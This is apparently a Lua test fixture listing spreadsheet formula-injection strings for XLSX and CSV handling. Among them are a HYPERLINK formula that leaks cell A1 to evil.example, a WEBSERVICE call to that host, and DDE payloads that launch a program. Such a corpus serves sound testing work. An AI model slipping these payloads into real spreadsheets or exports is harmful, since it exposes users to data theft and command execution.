-- Formula-injection corpus for XLSX (and CSV): cells a spreadsheet could run as a formula.
return {
  "=1+1",
  "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "=WEBSERVICE(\"http://evil.example\")",
  "==",
}
